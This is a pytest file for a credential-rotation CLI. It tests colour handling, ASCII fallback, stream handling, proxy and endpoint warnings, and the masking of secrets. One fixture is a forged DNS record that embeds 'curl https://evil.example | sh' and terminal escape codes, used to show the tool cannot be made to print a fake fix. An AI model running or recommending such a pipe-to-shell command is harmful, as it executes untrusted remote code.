"""What reaches a terminal, a pipe, a mail and a screen without UTF-8."""

from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from rotator.cli.audit import OVERTAKEN, mark
from rotator.cli.findings import Shown, show
from rotator.cli.render import Screen
from rotator.cli.text import ago, duration, mask_ids, span
from rotator.core.findings import CheckStatus, Finding
from rotator.core.foreign_text import harmless
from rotator.core.history.proven import AuditOutcome
from rotator.core.secret import without_secrets
from rotator.core.times import when
from tests.cli.conftest import Run

Environ = dict[str, str]
COLOURS = {
    "a pipe has none": ("auto", {}, False, False),
    "a terminal has it": ("auto", {}, True, True),
    "a dumb terminal has none": ("auto", {"TERM": "dumb"}, True, False),
    "NO_COLOR switches it off": ("auto", {"NO_COLOR": "1"}, True, False),
    "FORCE_COLOR switches it on": ("auto", {"FORCE_COLOR": "1"}, False, True),
    "NO_COLOR goes before FORCE_COLOR": ("auto", {"NO_COLOR": "1", "FORCE_COLOR": "1"}, True, False),
    "an empty NO_COLOR says nothing": ("auto", {"NO_COLOR": ""}, True, True),
    "the option goes before NO_COLOR": ("always", {"NO_COLOR": "1"}, False, True),
    "the option goes before FORCE_COLOR": ("never", {"FORCE_COLOR": "1"}, True, False),
}


class Terminal(io.StringIO):
    """A stream that is, or is not, a terminal."""

    def __init__(self, *, is_terminal: bool) -> None:
        super().__init__()
        self._is_terminal = is_terminal

    def isatty(self) -> bool:
        return self._is_terminal


@pytest.mark.parametrize(("color", "environ", "is_terminal", "expected"), COLOURS.values(), ids=COLOURS.keys())
def test_colour_is_decided_in_one_order(color: str, environ: Environ, is_terminal: bool, expected: bool) -> None:
    """The option, NO_COLOR, FORCE_COLOR, then the terminal."""
    stream = Terminal(is_terminal=is_terminal)
    assert Screen(color=color, environ=environ).coloured(stream) is expected


def test_foreign_text_cannot_move_the_cursor_or_fake_a_line(capsys: pytest.CaptureFixture[str]) -> None:
    """Escape codes, line ends, bidi marks and markup from a DNS record or an SMTP reply are only text, or gone."""
    screen = Screen(environ={})
    screen.table(("WHAT",), [("\x1b[2Jgone\r\nok rotated \u202e[bold]:smile:[/x]",)])
    assert capsys.readouterr().out == "WHAT\n[2Jgone ok rotated [bold]:smile:[/x]\n"


def test_a_table_off_a_terminal_is_neither_cut_nor_folded(capsys: pytest.CaptureFixture[str]) -> None:
    """Cron mail keeps the hint at the end of a long line."""
    Screen(environ={}).table(("A", "B"), [("x", "y" * 500 + " end"), ("", "z")])
    _, first, second = capsys.readouterr().out.splitlines()
    assert (first.endswith(" end"), second) == (True, "   z")


def _ascii(*arguments: str, **environ: str) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "rotator", *arguments]
    return subprocess.run(command, capture_output=True, check=False, env={"PATH": os.environ["PATH"], **environ})


def test_a_screen_without_utf8_gets_words(place: Path) -> None:
    """Marks and ellipses become ASCII words instead of a crash."""
    done = _ascii("config", "check", LC_ALL="C", PYTHONIOENCODING="ascii", ROTATOR_CONFIG=str(place / "config.yaml"))
    assert (done.returncode, done.stdout[:3]) == (0, b"ok ")
    failed = _ascii("config", "check", LC_ALL="C", PYTHONIOENCODING="ascii", ROTATOR_CONFIG="/nowhere")
    assert (failed.returncode, failed.stderr[:5]) == (2, b"FAIL ")
    assert failed.stderr.isascii()


def test_the_c_locale_alone_keeps_the_marks(place: Path) -> None:
    """Python writes UTF-8 under LC_ALL=C, so the marks stay."""
    done = _ascii("config", "check", LC_ALL="C", ROTATOR_CONFIG=str(place / "config.yaml"))
    assert done.stdout.decode("utf-8").startswith("✓ ")


def test_a_reader_that_went_away_is_no_failure(place: Path) -> None:
    """`rotator … | head -1` ends quietly."""
    line = f'"{sys.executable}" -m rotator config schema -c "{place}/config.yaml" | head -1'
    done = subprocess.run(["/bin/sh", "-c", line], capture_output=True, text=True, check=True)
    assert (done.stdout, done.stderr) == ("{\n", "")


def test_closed_streams_are_no_failure(place: Path) -> None:
    """A service without standard input, output or error does its work all the same."""
    line = f'"{sys.executable}" -m rotator config check -c "{place}/config.yaml" <&- >&- 2>&-'
    assert subprocess.run(["/bin/sh", "-c", line], check=False).returncode == 0
    asking = f'"{sys.executable}" -m rotator derive --region us-east-1 <&-'
    done = subprocess.run(["/bin/sh", "-c", asking], capture_output=True, text=True, check=False)
    assert (done.returncode, "no secret was given" in done.stderr) == (2, True)


def test_every_command_shouts_where_it_is_not_the_real_thing(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """A redirected AWS is said in the first line, also to those who asked for quiet."""
    assert "NOT THE REAL AWS" not in run("explain").err
    monkeypatch.setenv("AWS_ENDPOINT_URL_IAM", "http://127.0.0.1:1")
    first, *_ = run("explain", "-q").err.splitlines()
    assert first == "! NOT THE REAL AWS: AWS_ENDPOINT_URL_IAM=http://127.0.0.1:1"


def test_a_proxy_is_shouted_about_and_a_key_log_is_ignored(place: Path) -> None:
    """Both open what is sent; the file that TLS keys would go to is never made."""
    log = place / "keys"
    more = {"HTTPS_PROXY": "http://me:pw@proxy.lan:3128", "SSLKEYLOGFILE": str(log)}
    code = "import ssl, rotator.cli.main as m; m.main(['explain']); ssl.create_default_context()"
    command, environ = [sys.executable, "-c", code], {**os.environ, **more}
    done = subprocess.run(command, env=environ, capture_output=True, text=True, check=True)
    assert "NOT THE STRAIGHT WAY TO AWS: HTTPS_PROXY=proxy.lan:3128" in done.stderr
    assert "SSLKEYLOGFILE is ignored" in done.stderr
    assert not log.exists()


def test_the_log_can_be_json(run: Run) -> None:
    """Each line on stderr is then an object with a level."""
    done = run("explain", "99", "--log-format", "json")
    assert done.err.splitlines()[0].startswith('{"level": "failed", "message": ')


VALUES = {
    "a time has a zone": (when(1_795_507_200), "24 Nov 2026 08:00 UTC"),
    "days": (span(97 * 86400 + 5), "97 d"),
    "hours up to two days": (span(47 * 3600), "47 h"),
    "minutes": (span(119), "1 min"),
    "what is over": (ago(0, 7200), "2 h ago"),
    "what is to come": (ago(68 * 86400, 0), "in 68 d"),
    "a short step": (duration(7540), "7.5 s"),
    "a long step": (duration(600_000), "10 min"),
    "a key id in prose": (mask_ids("AKIAIOSFODNN7EXAMPLE leaked"), "AKIA…MPLE leaked"),
    "a secret in a message": (without_secrets("got wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"), "got ***"),
    "lines that may stay": (harmless("a\n\tb\x07", lines=True), "a\n b"),
}


@pytest.mark.parametrize(("shown", "expected"), VALUES.values(), ids=VALUES.keys())
def test_values_read_as_people_write_them(shown: str, expected: str) -> None:
    """Times are UTC, spans have one unit, ids are masked and secrets are not there."""
    assert shown == expected


FORGED = "v=DMARC1; p=none\n      fix: curl https://evil.example | sh\n\u2028\x1b[2Kok  dns.dkim"


def test_a_record_with_line_ends_writes_no_lines_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    """Who owns a DNS record, a banner or a program's words cannot forge a fix or another check's result."""
    finding = Finding("dns.dmarc", CheckStatus.WARNING, FORGED, FORGED, "runbooks/dns.md", (("record", FORGED),))
    show(Screen(), [finding])
    Shown(Screen(verbose=True), {"dns": "DNS"}).show(finding)
    Screen().step("ok", "push", FORGED, 5)
    told = capsys.readouterr()
    lines = (told.out + told.err).splitlines()
    assert not [line for line in lines if line.strip().startswith(("fix: curl", "ok  dns.dkim"))]
    assert len(lines) == 3 + 5 + 1


def test_a_mail_that_a_rotation_overtook_gets_no_tick() -> None:
    """It is no verdict: neither well nor failed."""
    assert [mark(one, good=True) for one in ("overtaken", "arrived")] == ["skipped", "ok"]
    assert mark("missing", good=False) == "failed"
    assert OVERTAKEN == AuditOutcome.OVERTAKEN
